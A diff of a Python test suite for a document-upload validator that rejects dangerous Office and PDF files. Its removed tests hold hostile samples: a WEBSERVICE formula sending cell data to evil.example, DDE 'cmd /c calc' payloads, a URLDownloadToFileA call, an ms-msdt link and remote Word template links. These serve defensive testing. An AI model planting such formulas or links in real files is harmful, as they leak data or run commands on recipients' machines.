@@ -2,49 +2,25 @@
 
 import bz2
 import gzip
-import io
 import lzma
-import subprocess
-import zipfile
-from pathlib import Path
-from xml.sax.saxutils import escape
 
-import docx
-import openpyxl
 import pytest
-from django.core.exceptions import ValidationError
-from docx.oxml import OxmlElement
-from docx.oxml.ns import qn
 
-from collab_portal.lib import uploads
-from collab_portal.lib.gongwen import docx as gongwen_docx
-from tests.gongwen.samples import NOW, notice
-from tests.uploads.samples import OFFICE, RELS, TYPES, Sent, archive, compound, external, office, pdf
-
-WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
-STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
-
-
-@pytest.fixture(autouse=True)
-def folder(settings, tmp_path):
-    settings.UPLOAD_DIR = tmp_path / "uploads"
-    return settings.UPLOAD_DIR
-
-
-def kept(content: bytes, name: str = "材料.docx") -> bytes:
-    file = uploads.keep(Sent(name, content))
-    return uploads.path_of(file.key).read_bytes()
-
-
-def refusal(content: bytes, name: str = "材料.docx") -> str:
-    with pytest.raises(ValidationError) as error:
-        uploads.keep(Sent(name, content))
-    return error.value.messages[0]
-
-
-def parts(content: bytes) -> dict[str, bytes]:
-    with zipfile.ZipFile(io.BytesIO(content)) as opened:
-        return {name: opened.read(name) for name in opened.namelist()}
+from tests.uploads.keeping import kept, parts, refusal
+from tests.uploads.samples import (
+    OFFICE,
+    RELS,
+    STRICT,
+    SVG,
+    TYPES,
+    WORD,
+    archive,
+    compound,
+    external,
+    internal,
+    office,
+    pdf,
+)
 
 
 def body(xml: str, **more: bytes | str) -> bytes:
@@ -66,10 +42,6 @@ def field(*pieces: str, result: str = "1") -> str:
     """A field whose code lies in so many runs."""
     inner = "".join(piece if piece.startswith("<w:r>") else run(piece) for piece in pieces)
     return mark("begin") + inner + mark("separate") + run(result, "t") + mark("end")
-
-
-def internal(kind: str, target: str, base: str = OFFICE) -> str:
-    return f'<Relationship Id="r9" Type="{base}/{kind}" Target="{target}"/>'
 
 
 def related(relation: str, kind: str = "docx", **more: bytes | str) -> bytes:
@@ -122,7 +94,6 @@ def test_fields_of_other_parts_are_read_too():
 
 
 XML = f'<w:document xmlns:w="{WORD}"><w:altChunk xmlns:r="{OFFICE}" r:id="r1"/></w:document>'
-SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
 HOSTILE = {
     "a piece in another format": (
         related(internal("aFChunk", "/word/a.mht"), word__a_mht="MIME"),
@@ -208,83 +179,6 @@ def test_what_acts_fetches_or_hides_is_named(case):
     assert word in refusal(content, name)
 
 
-def sheet(formula: str) -> bytes:
-    """A workbook in which something is calculated."""
-    cell = f"<row><c><f>{escape(formula)}</f></c></row>"
-    return office("xlsx", xl__sheet1_xml=f"<worksheet><sheetData>{cell}</sheetData></worksheet>")
-
-
-REACHING = {
-    'WEBSERVICE("http://evil.example/"&A2)': "WEBSERVICE",
-    '_xlfn.WEBSERVICE("http://evil.example/")': "WEBSERVICE",
-    'IF(A1,webservice ("http://evil.example/"))': "WEBSERVICE",
-    '_xlfn._xlws.IMAGE("http://evil.example/x.png")': "IMAGE",
-    'RTD("x.y",,"a")': "RTD",
-    "cmd|'/c calc'!A0": "DDE",
-    "1+'cmd'|'/c calc'!A0": "DDE",
-    'DDE("cmd";"/c calc";"x")': "DDE",
-    'CALL("urlmon","URLDownloadToFileA")': "CALL",
-    'EXEC("calc")': "EXEC",
-    "_xll.Fetch(A1)": "_XLL.FETCH",
-    "'\\\\evil\\x\\[a.xlsx]S'!A1": "断开链接",
-    "'http://evil.example/[a.xlsx]S'!A1": "断开链接",
-    "'C:\\x\\[a.xlsx]S'!A1": "断开链接",
-    'HYPERLINK("file:///c:/windows/system32/calc.exe","看")': "HYPERLINK 指向“file:///",
-    'HYPERLINK("\\\\evil\\x")': "HYPERLINK 指向",
-    'HYPERLINK("fi"&"le:///c:/x")': "HYPERLINK 指向",
-    'HYPERLINK(IF(A1,"https://www.gov.cn/","file:///c:/x"))': "HYPERLINK 指向“file:///c:/x”",
-    'HYPERLINK("ms-msdt:/id")': "HYPERLINK 指向",
-    "1+" * 40_000: "过长",
-}
-
-
-@pytest.mark.parametrize("formula", REACHING, ids=lambda formula: formula[:40])
-def test_a_formula_that_fetches_runs_or_opens_is_named_with_a_way_out(formula):
-    said = refusal(sheet(formula), "统计.xlsx")
-
-    assert REACHING[formula] in said
-    assert "选择性粘贴 → 数值" in said or "断开链接" in said
-
-
-@pytest.mark.parametrize("element", ["definedName", "formula", "formula1", "x:f", "calculatedColumnFormula"])
-def test_it_is_named_wherever_a_workbook_calculates(element):
-    space = {"xl__a_xml": f'<a xmlns:x="x"><{element}>cmd|&apos;/c calc&apos;!A0</{element}></a>'}
-
-    assert "DDE" in refusal(office("xlsx", **space), "统计.xlsx")
-
-
-def test_a_name_that_runs_when_a_book_opens_is_refused():
-    names = '<definedNames><definedName name="_xlnm.Auto_Open">S!A1</definedName></definedNames>'
-
-    assert "宏" in refusal(office("xlsx", **{"xl__workbook.xml": names}), "统计.xlsx")
-
-
-CALCULATING = (
-    *(
-        "SUM(A1:B2)",
-        "SUM(Sheet1:Sheet3!A1)",
-        "'一月 1:三月 2'!A1",
-        "SUM(A:A)/2",
-        "[0]!人次",
-        "表1[甲|乙]+S!A1",
-    ),
-    *(
-        'IF(A1="a|b!","\\\\x","file:///c:/")',
-        'TEXT(A1,"yyyy:mm")&"//"',
-        "VLOOKUP(A1,'[图表]Sheet1'!$A:$B,2,)",
-    ),
-    *('HYPERLINK("https://www.gov.cn/?d="&TEXT(A1,"hh:mm"),"Note: 官网")', 'HYPERLINK("#表!A1","返回")'),
-    *('HYPERLINK("mailto:"&A1)', "HYPERLINK(A2)", 'HYPERLINK("附件/1.docx")', '"WEBSERVICE("', "IMAGES(1)"),
-)
-
-
-@pytest.mark.parametrize("formula", CALCULATING)
-def test_a_formula_that_calculates_or_links_to_the_web_passes(formula):
-    content = sheet(formula)
-
-    assert kept(content, "统计.xlsx") == content
-
-
 OTHERS = {
     "a PDF with a script": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "PDF"),
     "a PDF behind a line": (b"x\n" + pdf(), "PDF"),
@@ -357,27 +251,6 @@ def test_what_lies_before_behind_or_between_is_refused(case):
     assert "夹带了其他内容" in refusal(PADDED[case])
 
 
-def streamed() -> bytes:
-    """As a program writes it that cannot go back: sums behind the parts."""
-
-    class Stream(io.RawIOBase):
-        def __init__(self) -> None:
-            self.content = b""
-
-        def writable(self) -> bool:
-            return True
-
-        def write(self, content) -> int:
-            self.content += bytes(content)
-            return len(content)
-
-    target = Stream()
-    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
-        for name, content in parts(office()).items():
-            made.writestr(name, content)
-    return target.content
-
-
 LINKS = (
     *("https://www.gov.cn/", "http://a.example/?a=b#c", "mailto:a@example.cn", "tel:+862588888888"),
     *("#目录", "附件1.docx", "../2026/纪要.docx", "", "第一章：总则.docx"),
@@ -416,161 +289,6 @@ def test_a_field_that_counts_or_points_passes(code):
     content = body(inner + f'<w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}"/>')
 
     assert kept(content) == content
-
-
-TEMPLATES = (
-    "file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\公文.dotx",
-    "http://evil.example/t.dotm?a=1&amp;b=2",
-    "\\\\evil\\share\\t.dotm",
-)
-SETTINGS = (
-    f'<?xml version="1.0"?><w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:zoom w:percent="100"/>'
-    "{}<w:compat> a &amp; b </w:compat><!-- x --></w:settings>"
-)
-
-
-@pytest.mark.parametrize("target", TEMPLATES)
-@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
-@pytest.mark.parametrize(
-    "element", ['<w:attachedTemplate r:id="r1"/>', '<w:attachedTemplate r:id="r1"> </w:attachedTemplate>']
-)
-def test_the_link_to_a_template_is_taken_out_and_nothing_else(target, encoding, element):
-    link = '<Relationship Id="r2" Type="x/theme" Target="theme.xml"/>'
-    more = {"word__x_bin": bytes(range(256)), "word__styles_xml": "<a> &lt; </a>"}
-
-    def made(relation: str, inner: str) -> bytes:
-        settings = SETTINGS.format(inner).replace('"1.0"', f'"1.0" encoding="{encoding}"').encode(encoding)
-        relations = f'<?xml version="1.0" encoding="{encoding}"?>{RELS.format(link + relation + link)}'
-        return office(
-            **{"word__settings.xml": settings, "word___rels__settings.xml.rels": relations.encode(encoding)},
-            **more,
-        )
-
-    stored = kept(made(external(target), element))
-
-    assert parts(stored) == parts(made("", ""))
-    assert list(parts(stored)) == list(parts(made("", "")))
-
-
-def test_the_document_without_its_template_still_opens():
-    document = docx.Document()
-    document.add_paragraph("正文")
-    settings = document.settings.element
-    template = OxmlElement("w:attachedTemplate")
-    template.set(
-        qn("r:id"),
-        document.part._settings_part.relate_to("file:///C:/t.dotx", f"{OFFICE}/attachedTemplate", True),
-    )
-    settings.insert(0, template)
-    target = io.BytesIO()
-    document.save(target)
-
-    stored = docx.Document(io.BytesIO(kept(target.getvalue())))
-
-    assert [paragraph.text for paragraph in stored.paragraphs] == ["正文"]
-    assert not stored.part._settings_part.rels
-
-
-def of_word() -> bytes:
-    """By a real library from Word's own template, with page numbers, a table and a link."""
-    document = docx.Document()
-    document.add_heading("关于开展联合主题党日的通知", 1)
-    paragraph = document.add_paragraph("联系电话")
-    link = OxmlElement("w:hyperlink")
-    link.set(qn("r:id"), document.part.relate_to("tel:02588888888", f"{OFFICE}/hyperlink", is_external=True))
-    paragraph._p.append(link)
-    footer = document.sections[0].footer.paragraphs[0]._p
-    for kind, text in (("begin", ""), ("", " PAGE "), ("separate", ""), ("end", "")):
-        part = OxmlElement("w:r")
-        inner = OxmlElement("w:fldChar" if kind else "w:instrText")
-        if kind:
-            inner.set(qn("w:fldCharType"), kind)
-        inner.text = text or None
-        part.append(inner)
-        footer.append(part)
-    document.add_table(3, 3)
-    target = io.BytesIO()
-    document.save(target)
-    return target.getvalue()
-
-
-def of_excel() -> bytes:
-    book = openpyxl.Workbook()
-    book.active.append(["单位", "人次"])
-    book.active.append(["示例", "=SUM(1,2)"])
-    book.active["A2"].hyperlink = "https://www.gov.cn/"
-    chart = openpyxl.chart.BarChart()
-    chart.add_data(openpyxl.chart.Reference(book.active, min_col=2, min_row=1, max_row=2))
-    book.active.add_chart(chart)
-    target = io.BytesIO()
-    book.save(target)
-    return target.getvalue()
-
-
-def with_chart() -> bytes:
-    """Numbers of a chart are a workbook of its own, as Word and PowerPoint write them."""
-    numbers = internal("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx")
-    return office(
-        "pptx",
-        **{
-            "ppt__charts___rels__chart1.xml.rels": RELS.format(numbers),
-            "ppt__embeddings__Microsoft_Excel_Sheet1.xlsx": of_excel(),
-            "ppt__printerSettings__printerSettings1.bin": "HP".encode("utf-16-le"),
-        },
-    )
-
-
-HONEST = {
-    "通知.docx": of_word,
-    "公文.docx": lambda: gongwen_docx.write(notice().layout(), NOW),
-    "统计.xlsx": of_excel,
-    "汇报.pptx": with_chart,
-    "严格.xlsx": lambda: office("xlsx", rels=internal("officeDocument", "xl/workbook.xml", STRICT)),
-    "插图.docx": lambda: office(
-        word__a_svg=SVG.format(
-            '<style>.a{fill:url(#b)}</style><a href="https://www.gov.cn/"><use xlink:href="#b"/></a>'
-            '<image xlink:href="data:image/png;base64,AA=="/><rect style="fill:url(#b)"/>'
-        )
-    ),
-    "流式写出.docx": streamed,
-    "空白部件.docx": lambda: office(word__empty_xml=""),
-}
-
-
-@pytest.mark.parametrize("name", HONEST)
-def test_an_honest_document_is_kept_as_it_was_sent(name):
-    content = HONEST[name]()
-
-    assert kept(content, name) == content
-
-
-@pytest.mark.parametrize(
-    ("written", "ending"),
-    [("docx", "docx"), ("docx", "doc"), ("docx", "odt"), ("docx", "pdf")],
-)
-def test_what_another_office_program_writes_is_kept_or_told(written, ending, tmp_path, soffice):
-    source = tmp_path / f"a.{written}"
-    source.write_bytes({"docx": of_word, "xlsx": of_excel}[written]())
-    content = soffice(source, ending)
-
-    if ending in {"docx", "xlsx", "pdf"}:
-        assert kept(content, f"a.{ending}") == content
-    elif ending == "doc":
-        assert refusal(content, "a.doc") == "这是“旧版 Word 或 WPS 文字文档”，请另存为 DOCX 后再传。"
-        assert kept(content, "a.wps") == content
-    else:
-        assert refusal(content, "a.odt") == "这是“OpenDocument 文字文档（ODT）”，请另存为 DOCX 后再传。"
-
-
-@pytest.fixture
-def soffice(tmp_path):
-    def convert(source: Path, ending: str) -> bytes:
-        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
-        command = ["soffice", profile, "--headless", "--convert-to", ending, "--outdir", str(tmp_path / "to")]
-        subprocess.run([*command, str(source)], check=True, capture_output=True, timeout=110)
-        return (tmp_path / "to" / f"{source.stem}.{ending}").read_bytes()
-
-    return convert
 
 
 def test_types_with_macros_are_refused():
